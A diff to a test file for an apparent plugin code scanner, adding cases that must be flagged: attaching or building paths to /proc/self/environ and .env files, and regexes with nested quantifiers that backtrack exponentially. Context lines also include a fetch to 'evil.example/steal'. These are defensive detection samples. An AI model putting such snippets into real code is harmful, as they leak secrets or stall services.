@@ -612,6 +612,14 @@ describe("defense in depth: the classes of issue 10", () => {
     ["a local __dirname faking the exemption", `import { readFileSync } from "node:fs";\nimport { join } from "node:path";\nconst __dirname = "/proc/self";\nexport const e = readFileSync(join(__dirname, "environ"));`, "api/fs-read"],
     ["new fs.ReadStream", `import fs from "node:fs";\nexport const s = new fs.ReadStream("/proc/self/environ");`, "api/fs-read"],
     ["fs.globSync", `import fs from "node:fs";\nexport const all = fs.globSync("/**/.env");`, "api/fs-read"],
+    // files that hold secrets, named as data (attachments, paths handed to something that reads them)
+    ["/proc/self/environ as an attachment", `export const run = (call: any) => call.reply({ files: ["/proc/self/environ"] });`, "api/secret-path"],
+    ["a /proc path built in a template", "export const p = (pid: number) => `/proc/${pid}/environ`;", "api/secret-path"],
+    [".env", `export const p = "../../../.env";`, "api/secret-path"],
+    // regular expressions that backtrack exponentially
+    ["a nested quantifier in a regex literal", `export const ok = (s: string) => /^(\\w+\\s?)*$/.test(s);`, "api/redos"],
+    ["a nested quantifier in new RegExp", `export const re = new RegExp("^(a+)+$");`, "api/redos"],
+    ["a nested quantifier with {n,}", `export const re = /((ab)*c){2,}/;`, "api/redos"],
     // the plugin API's fetch to a host that is not allowed
     ["call.fetch to another host", `export const run = async (call: any) => call.fetch("https://evil.example/steal?t=1");`, "api/network"],
   ];
@@ -626,6 +634,7 @@ describe("defense in depth: the classes of issue 10", () => {
     ["assignments to locals, parameters and hoisted functions", `let count = 0;\ncount += 1;\ncount++;\nlet a: number, b: number;\n[a, b] = [1, 2];\n({ a, b } = { a: 3, b: 4 });\nexport function f(x: number) { x = x * 2; g = g; return x; }\nfunction g() {}\nfor (count of [1, 2]) {}\ntry { JSON.parse("x"); } catch (e) { e = null; }`],
     ["loops with a way out", `export async function poll(next: () => Promise<boolean>) { for (;;) { if (await next()) return; } }\nexport function first(xs: number[]) { let i = 0; while (true) { if (xs[i] > 0) break; i++; } return i; }\nexport function* ids() { let i = 0; while (true) yield i++; }\nexport function check(n: number) { do { n--; } while (n > 0); outer: while (1) { for (;;) { break outer; } } }`],
     ["call.fetch to an allowed host, or a computed URL left to the core", `export const run = async (call: any, id: string) => { await call.fetch("https://discord.com/api/v10/users/@me"); await call.fetch(\`https://cdn.discordapp.com/a/\${id}.png\`); await call.fetch(call.options.url as string); await call.store.get("k"); };`],
+    ["regexes without nested repetition, strings that only look like paths", `export const a = /^!roll (\\d+)$/;\nexport const b = /^(hi|hello)\\b/i;\nexport const c = /(a|b)*[(+*)]\\(x+\\)*/;\nexport const d = new RegExp("^(\\\\d{1,3})(,\\\\d{3})?$");\nexport const e = "process.env";\nexport const f = "/api/v10/users";\nexport const g = "my.environment";`],
     ["client-like names that are not the client", `const clients = new Map<string, string>();\nexport const f = (k: string) => clients.get(k);\nconst o: Record<string, number> = {};\nexport const g = (k: string) => o[k];\nfor (const k in o) console.log(k);\nexport const keys = Object.keys(o);`],
   ];
   it.each(benign)("benign: %s", (name, code) => {
